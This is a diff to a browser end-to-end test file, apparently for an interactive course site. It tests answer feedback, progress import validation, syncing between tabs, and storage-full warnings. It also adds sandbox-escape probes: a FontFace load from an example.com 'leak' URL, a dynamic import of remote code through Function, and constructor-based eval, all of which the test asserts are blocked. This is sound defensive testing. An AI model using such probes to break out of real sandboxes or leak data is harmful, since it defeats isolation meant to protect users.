@@ -67,9 +67,15 @@ test('code exercise: wrong answer shows case and values; an infinite loop times 
   // A numeric exercise on another pane, answered wrong then right.
   await page.goto(`${site.url}${paneOf('sqrt-dk-numeric')}`);
   const num = page.locator('[data-exercise="sqrt-dk-numeric"]');
+  await num.locator('input').fill('7');
+  await num.locator('button.check').click();
+  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Not yet: 7 is not the expected value/);
+  // a common mistake declared in the exercise gets its own message, without the expected value
   await num.locator('input').fill('64');
   await num.locator('button.check').click();
-  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Not yet: 64 is not the expected value/);
+  const told = await verdictText(page, 'sqrt-dk-numeric');
+  assert.match(told, /^Not yet: 64 — that is d_k itself/);
+  assert.doesNotMatch(told, /\b8\b/);
   await num.locator('input').fill('8');
   await num.locator('button.check').click();
   assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Correct/);
@@ -85,7 +91,7 @@ test('code exercise: wrong answer shows case and values; an infinite loop times 
   const stored = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY));
   assert.equal(stored.version, 1);
   assert.equal(stored.exercises[id].solved, true);
-  assert.equal(stored.exercises['sqrt-dk-numeric'].attempts, 2);
+  assert.equal(stored.exercises['sqrt-dk-numeric'].attempts, 3, 'three answers: 7, 64, 8');
   assert.deepEqual(consoleErrors, []);
   assert.deepEqual(foreignRequests, []);
   await context.close();
@@ -125,6 +131,19 @@ test('progress panel: export, reset with confirmation, import restores; a bad fi
   assert.match(await panel.locator('.progress-status').innerText(), /version 9, made by a newer version .* Nothing was changed\.$/);
   assert.match(await panel.locator('.progress-summary').innerText(), /^0 of/);
 
+  // a file naming an exercise this course does not have is refused with its id
+  const foreign = path.join(path.dirname(file), 'foreign.json');
+  await fs.writeFile(foreign, JSON.stringify({ ...exported, exercises: { ...exported.exercises, 'no-such-exercise': exported.exercises['cost-ratio'] } }));
+  await panel.locator('input[type="file"]').setInputFiles(foreign);
+  await page.waitForFunction(() => /no exercise/.test(document.querySelector('.progress-status').textContent));
+  assert.match(await panel.locator('.progress-status').innerText(), /no exercise “no-such-exercise”.* Nothing was changed\.$/);
+  // a file too large is refused before it is read
+  const huge = path.join(path.dirname(file), 'huge.json');
+  await fs.writeFile(huge, ' '.repeat(2_100_000));
+  await panel.locator('input[type="file"]').setInputFiles(huge);
+  await page.waitForFunction(() => /larger than a progress file/.test(document.querySelector('.progress-status').textContent));
+  assert.match(await panel.locator('.progress-summary').innerText(), /^0 of/);
+
   await panel.locator('input[type="file"]').setInputFiles(file);
   await page.waitForFunction(() => /Imported progress/.test(document.querySelector('.progress-status').textContent));
   assert.match(await panel.locator('.progress-summary').innerText(), /^1 of/);
@@ -132,6 +151,45 @@ test('progress panel: export, reset with confirmation, import restores; a bad fi
   await ex.locator('input').waitFor();
   assert.equal(await ex.locator('input').inputValue(), '4');
   assert.match(await ex.locator('.exercise-badge').innerText(), /Solved/);
+  assert.deepEqual(consoleErrors, []);
+  await context.close();
+});
+
+test('two tabs: a wrong answer in one never erases a solve in the other, and the other tab shows the solve', async () => {
+  const { page, context, consoleErrors } = await newPage(site.browser, `${site.url}${paneOf('cost-ratio')}`);
+  const other = await context.newPage();
+  await other.goto(`${site.url}${paneOf('cost-ratio')}`);
+  const ex1 = page.locator('[data-exercise="cost-ratio"]');
+  const ex2 = other.locator('[data-exercise="cost-ratio"]');
+  await ex2.locator('input').waitFor();
+  await ex1.locator('input').fill('4');
+  await ex1.locator('button.check').click();
+  assert.match(await verdictText(page, 'cost-ratio'), /^Correct/);
+  await other.waitForFunction(() => /Solved/.test(document.querySelector('[data-exercise="cost-ratio"] .exercise-badge')?.textContent ?? ''));
+  await ex2.locator('input').fill('7');
+  await ex2.locator('button.check').click();
+  await page.reload();
+  await ex1.locator('.exercise-badge').waitFor();
+  assert.match(await ex1.locator('.exercise-badge').innerText(), /Solved/);
+  const stored = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY));
+  assert.equal(stored.exercises['cost-ratio'].solved, true);
+  assert.equal(stored.exercises['cost-ratio'].attempts, 2);
+  assert.deepEqual(consoleErrors, []);
+  await context.close();
+});
+
+test('full storage: a failed save shows "Progress could not be saved — export it"', async () => {
+  const full = { content: `(() => { const set = Storage.prototype.setItem; Storage.prototype.setItem = function (k, v) {
+    if (k === '${KEY}') throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
+    return set.call(this, k, v); }; })();` };
+  const { page, context, consoleErrors } = await newPage(site.browser, `${site.url}${paneOf('cost-ratio')}`, { init: full });
+  const ex = page.locator('[data-exercise="cost-ratio"]');
+  await ex.locator('input').fill('4');
+  await ex.locator('button.check').click();
+  const banner = page.locator('.progress-notice-save');
+  await banner.waitFor();
+  assert.match(await banner.innerText(), /Progress could not be saved — export it/);
+  assert.equal(await banner.getAttribute('role'), 'alert');
   assert.deepEqual(consoleErrors, []);
   await context.close();
 });
@@ -178,6 +236,13 @@ test('learner code has no DOM, storage or network; experiments are recomputed by
     storage: () => navigator.storage.getDirectory(),
     doc: () => document.title,
     local: () => localStorage.getItem('x'),
+    fontface: () => new FontFace('x', 'url(http://example.com/leak?s=1)').load(),
+    fonts: () => self.fonts.add(null),
+    ctor: () => Function('return import("http://example.com/x.js")')(),
+    protoCtor: () => (function () {}).constructor('return 1')(),
+    asyncCtor: () => (async () => {}).constructor('return 1')(),
+    genCtor: () => (function* () {}).constructor('yield 1')(),
+    evil: () => eval('1 + 1'),
   };
   for (const [k, f] of Object.entries(probes)) {
     try { f(); console.log(k, 'ALLOWED'); } catch (e) { console.log(k, 'blocked:', e.message); }
@@ -188,7 +253,8 @@ test('learner code has no DOM, storage or network; experiments are recomputed by
   assert.match(await verdictText(page, 'softmax-stable'), /^Failed/, 'the forged postMessage did not produce a pass');
   const out = await ex.locator('.result-output pre').first().textContent();
   assert.doesNotMatch(out, /ALLOWED/);
-  for (const k of ['fetch', 'protoFetch', 'xhr', 'socket', 'idb', 'caches', 'importScripts', 'post', 'storage', 'local']) {
+  for (const k of ['fetch', 'protoFetch', 'xhr', 'socket', 'idb', 'caches', 'importScripts', 'post', 'storage', 'local',
+    'fontface', 'fonts', 'ctor', 'protoCtor', 'asyncCtor', 'genCtor', 'evil']) {
     assert.match(out, new RegExp(`^${k} blocked: \\S+ is not available in exercises`, 'm'), out);
   }
   assert.match(out, /^doc blocked: document is not defined$/m);
